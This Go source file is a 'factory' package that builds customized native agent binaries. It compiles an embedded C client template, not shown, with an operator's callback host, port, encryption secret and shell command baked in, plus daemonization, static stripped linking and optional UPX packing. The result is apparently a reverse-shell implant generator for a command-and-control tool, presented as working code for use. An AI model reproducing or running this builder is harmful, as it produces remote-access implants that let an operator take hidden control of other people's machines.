// Package factory builds per-agent customized native executables by
// invoking an external C cross-compiler on a fixed source template, with
// the agent's secret, callback host/port, and shell baked in as
// preprocessor defines (spec.md §4.6).
package factory

import (
	"bytes"
	"context"
	_ "embed"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"

	"go.uber.org/zap"
)

//go:embed template/client.c
var clientSource []byte

// DefaultExtraArgs mirrors the reference compiler flags: link-time
// optimization, size optimization, strip, static linking.
var DefaultExtraArgs = []string{"-flto", "-Oz", "-s", "-static"}

// BuildRequest is the agent-factory input (spec.md §4.6).
type BuildRequest struct {
	Secret       string
	Host         string
	Port         int
	TargetArch   string
	ShellCommand string
	BufferLength int
	UPXCompress  bool
	ExtraArgs    []string
}

func (r BuildRequest) withDefaults() BuildRequest {
	if r.TargetArch == "" {
		r.TargetArch = "x86_64"
	}
	if r.ShellCommand == "" {
		r.ShellCommand = "/bin/sh"
	}
	if r.BufferLength == 0 {
		r.BufferLength = 1024
	}
	if len(r.ExtraArgs) == 0 {
		r.ExtraArgs = DefaultExtraArgs
	}
	return r
}

// InvalidInputError is spec.md §7's InvalidInput kind: a caller-visible
// validation failure, currently raised only for a non-ASCII secret.
type InvalidInputError struct {
	Reason string
}

func (e *InvalidInputError) Error() string {
	return "factory: invalid input: " + e.Reason
}

// CompilerFailureError is spec.md §7's CompilerFailure(code) kind: the
// cross-compiler or the post-processor exited non-zero.
type CompilerFailureError struct {
	Tool     string
	ExitCode int
	Stderr   string
}

func (e *CompilerFailureError) Error() string {
	return fmt.Sprintf("factory: %s exited %d: %s", e.Tool, e.ExitCode, e.Stderr)
}

// Factory invokes the bundled cross-compiler (reference: zig cc) and
// optional compressor (upx) to produce a customized agent binary. Grounded
// on the source's compile_client: subprocess args, scoped temp directory,
// error-on-nonzero-exit, read-file-then-return — translated from
// asyncio.subprocess/anyio to os/exec and os, the idiomatic Go equivalents
// the Design Notes call for ("no ecosystem subprocess-wrapper library
// appears anywhere in the retrieved pack").
type Factory struct {
	compilerPath string
	upxPath      string
	log          *zap.Logger
}

// New constructs a Factory. compilerPath and upxPath name the executables to
// invoke (e.g. "zig" and "upx"); both are resolved via exec.LookPath
// semantics at invocation time, not at construction time.
func New(compilerPath, upxPath string, log *zap.Logger) *Factory {
	if compilerPath == "" {
		compilerPath = "zig"
	}
	if upxPath == "" {
		upxPath = "upx"
	}
	return &Factory{compilerPath: compilerPath, upxPath: upxPath, log: log.Named("factory")}
}

// Build produces one customized agent binary and returns its raw bytes.
// The scoped temporary directory housing the compile is removed on every
// exit path, successful or failing.
func (f *Factory) Build(ctx context.Context, req BuildRequest) ([]byte, error) {
	if !isASCII(req.Secret) {
		return nil, &InvalidInputError{Reason: "encryption secret must be ASCII"}
	}
	req = req.withDefaults()

	tempDir, err := os.MkdirTemp("", "ashfall-agent-*")
	if err != nil {
		return nil, fmt.Errorf("factory: create temp dir: %w", err)
	}
	defer os.RemoveAll(tempDir)

	sourcePath := filepath.Join(tempDir, "client.c")
	if err := os.WriteFile(sourcePath, clientSource, 0o644); err != nil {
		return nil, fmt.Errorf("factory: write source: %w", err)
	}
	outputPath := filepath.Join(tempDir, "client")

	defines := []string{
		"-DENCRYPTION_KEY=" + CCharArrayEscape([]byte(req.Secret)),
		"-DCONNECT_HOST=" + CStringEscape(req.Host),
		fmt.Sprintf("-DCONNECT_PORT=%d", req.Port),
		"-DSHELL_COMMAND=" + CStringEscape(req.ShellCommand),
		fmt.Sprintf("-DBUFFER_LENGTH=%d", req.BufferLength),
		"-DDAEMONIZE=1",
	}

	args := []string{"cc", "--target=" + req.TargetArch + "-linux-musl"}
	args = append(args, defines...)
	args = append(args, "-o", outputPath)
	args = append(args, req.ExtraArgs...)
	args = append(args, sourcePath)

	if err := f.run(ctx, "zig cc", f.compilerPath, args); err != nil {
		return nil, err
	}

	beforeSize, _ := fileSize(outputPath)
	f.log.Info("agent compiled", zap.Int64("bytes", beforeSize))

	if req.UPXCompress {
		if err := f.run(ctx, "upx", f.upxPath, []string{"--best", outputPath}); err != nil {
			return nil, err
		}
		afterSize, _ := fileSize(outputPath)
		f.log.Info("agent compressed", zap.Int64("before_bytes", beforeSize), zap.Int64("after_bytes", afterSize))
	}

	data, err := os.ReadFile(outputPath)
	if err != nil {
		return nil, fmt.Errorf("factory: read output: %w", err)
	}
	return data, nil
}

func (f *Factory) run(ctx context.Context, toolName, exePath string, args []string) error {
	cmd := exec.CommandContext(ctx, exePath, args...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr

	if err := cmd.Run(); err != nil {
		exitCode := -1
		var exitErr *exec.ExitError
		if errors.As(err, &exitErr) {
			exitCode = exitErr.ExitCode()
		}
		f.log.Error("subprocess failed",
			zap.String("tool", toolName),
			zap.Int("exit_code", exitCode),
			zap.String("stderr", stderr.String()))
		return &CompilerFailureError{Tool: toolName, ExitCode: exitCode, Stderr: stderr.String()}
	}
	return nil
}

func fileSize(path string) (int64, error) {
	info, err := os.Stat(path)
	if err != nil {
		return 0, err
	}
	return info.Size(), nil
}

func isASCII(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] > 0x7f {
			return false
		}
	}
	return true
}
